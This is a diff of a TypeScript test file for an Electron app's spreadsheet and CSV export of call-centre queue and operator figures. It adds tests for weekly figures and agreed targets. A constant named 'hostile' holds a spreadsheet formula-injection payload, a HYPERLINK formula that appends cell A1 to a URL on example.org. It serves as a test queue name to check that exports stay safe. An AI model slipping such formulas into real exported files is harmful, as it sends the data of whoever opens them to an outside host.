@@ -5,14 +5,19 @@ import { strFromU8, unzipSync } from 'fflate';
 import { readOds } from 'hucre/ods';
 import readXlsxFile from 'read-excel-file/node';
 import { describe, expect, it, onTestFinished } from 'vitest';
+import type { z } from 'zod';
 import { systemClock } from '#shared/domain/clock.ts';
 import { newId } from '#shared/domain/ids.ts';
 import { silentLogger } from '#shared/domain/logger.ts';
 import { exportLists, type ExportFormat, type ExportList, type ExportRequest } from '#shared/domain/office.ts';
+import { noAgreement, targetsOf } from '#shared/domain/quality/agreement.ts';
+import { figuresOf } from '#shared/domain/quality/figures.ts';
+import { dayOf } from '#shared/domain/quality/periods.ts';
 import { connect } from '#shared/ipc/client.ts';
 import { officeContract } from '#shared/ipc/office-list.ts';
 import { serve } from '#shared/ipc/server.ts';
 import { ExportDesk } from '../../../electron/main/office/export-desk.ts';
+import { queueFigurePage } from '../../../electron/main/office/queue-figure-page.ts';
 import { officeHandlers } from '../../../electron/office/office-handlers.ts';
 import { messagePort } from '../../../electron/store/ports.ts';
 import { orderRow } from '../../fixtures/ordering.ts';
@@ -23,6 +28,19 @@ import { answer, hangUp, ring, storeBench, type StoreBench } from '../store/supp
 const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';
 const headings = { startedAt: 'Wanneer', direction: 'Richting', name: 'Naam', number: 'Nummer', queue: 'Wachtrij', answered: 'Antwoord', duration: 'Duur (s)', outcome: 'Resultaat', transferredTo: 'Doorverbonden naar' };
 const words = { inbound: 'binnenkomend', outbound: 'uitgaand', answered: 'opgenomen', missed: 'gemist' };
+
+/** Central, for a team lead. */
+const central = {
+  asked: [] as string[],
+  async ask<T extends z.ZodType>({ path }: { readonly path: string }, answer: T): Promise<z.output<T>> {
+    this.asked.push(path);
+    const figures = figuresOf([], null);
+    const one = { value: 12.34, count: 2, within: 0.5 };
+    const targets = targetsOf({ pickUpTargetSeconds: 20, durationTargetSeconds: 300, agreement: { ...noAgreement, pickUpPercent: 80 } });
+    const counted = { ...figures, conversations: 2, pickUp: one, silence: { value: 0.1234, count: 2, within: null } };
+    return answer.parse({ teams: [], queues: [{ queueId: newId(), name: hostile, targets, figures: counted, periods: [{ day: '2026-03-02', figures: counted }] }, { queueId: newId(), name: 'Stil', targets, figures, periods: [] }] });
+  },
+};
 
 interface Desk {
   readonly bench: StoreBench;
@@ -40,7 +58,10 @@ async function desk({ allowed = exportLists, cancels = false, folder: wanted }: 
   const exports = new ExportDesk({
     allowed: () => allowed,
     language: () => 'nl',
-    page: (input) => bench.main.call('export.page', input),
+    page: async ({ request, ...where }) => {
+      if (request.list === 'queueFigures') return await queueFigurePage(central, request);
+      return await bench.main.call('export.page', { request, ...where });
+    },
     record: (input) => bench.main.call('export.record', input),
     whereTo: async ({ extension }) => (cancels ? null : (path = join(folder, `lijst.${extension}`))),
     office: async (work) => {
@@ -161,6 +182,32 @@ describe('a list as a file', () => {
     ]);
     for (const of of [customerId, null]) expect((await lines({ list: 'orders', customerId: of })).map(([, number, state, , name, products, total]) => [number, state, name, products, total])).toEqual([['O-100204', 'order.shipped', 'Piet De Smet', '2 × Proefdoos Loire', '108']]);
     expect(await lines({ list: 'team' })).toEqual([['Zoë', 'Avond', '207', 'nl, fr'], ['An', 'Bestellingen', '207', 'nl, fr']]);
+  });
+
+  it('of the figures of queues has the whole time, what was agreed and each week, as central tells them', async () => {
+    const { bench, save } = await desk();
+    const { path } = await save({ list: 'queueFigures', from: '2026-03-01T23:00:00.000Z', until: '2026-03-08T23:00:00.000Z', bucket: 'week', timeZone: 'Europe/Brussels', team: 'Avond' }, 'xlsx');
+    const [sheet] = await readXlsxFile(path);
+    expect(sheet?.data.slice(1).map((row) => row.slice(0, 8))).toEqual([
+      [hostile, 'Avond', 'figures.whole', '2026-03-02', '2026-03-08', 2, 12.3, 50],
+      [hostile, 'Avond', 'figures.agreed', null, null, null, 20, 80],
+      [hostile, 'Avond', 'figures.week', '2026-03-02', '2026-03-08', 2, 12.3, 50],
+      ['Stil', 'Avond', 'figures.whole', '2026-03-02', '2026-03-08', 0, null, null],
+      ['Stil', 'Avond', 'figures.agreed', null, null, null, 20, 80],
+    ]);
+    expect(sheet?.data[1]?.[13]).toBe(12.3);
+    expect(central.asked).toEqual([expect.stringMatching(/^\/v1\/quality-overview\?.*team=Avond/)]);
+    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'queueFigures', format: 'xlsx', rows: 5, customerId: null } }]);
+  });
+
+  it("of the operator's own figures is what their page shows", async () => {
+    const { bench, save } = await desk();
+    await oneCall(bench);
+    const { path, rows } = await save({ list: 'figures', queue: null, days: 28, bucket: 'day', timeZone: 'Europe/Brussels' }, 'csv');
+    const { whole } = await bench.workspace.call('quality.figures', { queue: null, days: 28, bucket: 'day', timeZone: 'Europe/Brussels' });
+    const [, line = ''] = readFileSync(path, 'utf8').trimEnd().split('\r\n');
+    expect(line.split(';').slice(0, 5).map((cell) => cell.slice(1, -1))).toEqual(['', 'figures.whole', expect.stringMatching(/^\d{4}-\d\d-\d\d$/), dayOf(new Date().toISOString(), 'Europe/Brussels'), String(whole.conversations)]);
+    expect(rows).toBe(whole.conversations === 0 ? 1 : 2);
   });
 
   it('that the operator does not save after all is not written down', async () => {
